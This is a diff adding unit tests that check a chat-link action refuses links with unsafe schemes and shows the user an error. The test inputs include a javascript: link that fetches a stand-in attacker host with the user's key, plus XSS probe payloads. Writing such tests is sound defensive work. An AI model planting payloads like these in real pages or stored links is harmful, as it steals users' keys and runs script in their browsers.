@@ -28,6 +28,27 @@ describe('the token chat action', () => {
     expect(open).toHaveBeenCalledWith(`https://two.example/sk-${key}`, '_blank', 'noopener,noreferrer');
   });
 
+  it.each(['javascript:fetch("//evil.example/?k={key}")', ' JavaScript:alert("{key}")', 'data:text/html,<script>alert("{key}")</script>'])(
+    'never follows a stored script link (%s): nothing opens, and the user hears why',
+    async (link) => {
+      const open = vi.spyOn(window, 'open').mockReturnValue(null);
+      const error = vi.spyOn(toast, 'error');
+      render({ chats: [{ Evil: link }] });
+      fireEvent.click(await screen.findByTestId('token-chat'));
+      expect(open).not.toHaveBeenCalled();
+      expect(error).toHaveBeenCalledWith(
+        'This chat link uses an unsafe scheme (javascript:, data:, vbscript: or file:) and was not opened; please contact the administrator',
+      );
+    },
+  );
+
+  it('never follows an unsafe older single link either', async () => {
+    const open = vi.spyOn(window, 'open').mockReturnValue(null);
+    render({ chats: [], chat_link: 'javascript:alert("{key}")' });
+    fireEvent.click(await screen.findByTestId('token-chat'));
+    expect(open).not.toHaveBeenCalled();
+  });
+
   it('asks for the administrator when none are configured', async () => {
     const warning = vi.spyOn(toast, 'warning');
     render({ chats: [] });
